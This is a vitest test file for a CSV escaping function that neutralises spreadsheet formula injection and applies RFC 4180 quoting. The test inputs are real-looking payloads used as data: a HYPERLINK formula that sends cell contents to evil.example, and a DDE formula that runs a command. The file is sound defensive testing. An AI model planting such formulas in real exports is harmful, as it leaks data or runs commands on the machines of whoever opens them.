import { describe, expect, test } from 'vitest';
import { csvCell, csvRow } from './csvCell';

describe('csvCell neutralises what a spreadsheet would run', () => {
  test.each([
    ['=1+2', `"'=1+2"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['  =1+2', `"'  =1+2"`],
    ['\uFF1D1+2', `"'\uFF1D1+2"`],
  ])('%j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('csvCell leaves data as data and quotes by RFC 4180', () => {
  test.each<[string | number | boolean | null | undefined, string]>([
    ['sup-adm-07', 'sup-adm-07'],
    ['a=b', 'a=b'],
    ['say "hi", then go', '"say ""hi"", then go"'],
    ['two\nlines', '"two\nlines"'],
    ['a;=cmd|x', '"a;=cmd|x"'],
    [' padded ', '" padded "'],
    ['adm\u200Bin', 'adm\u200Bin'],
    [-5, '-5'],
    [48_000, '48000'],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
    [true, 'true'],
    [null, ''],
    [undefined, ''],
    ['', ''],
  ])('%j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

test('csvRow joins neutralised cells with commas', () => {
  expect(csvRow(['e-1', '=1+2', 3, 'x,y'])).toBe(`e-1,"'=1+2",3,"x,y"`);
});
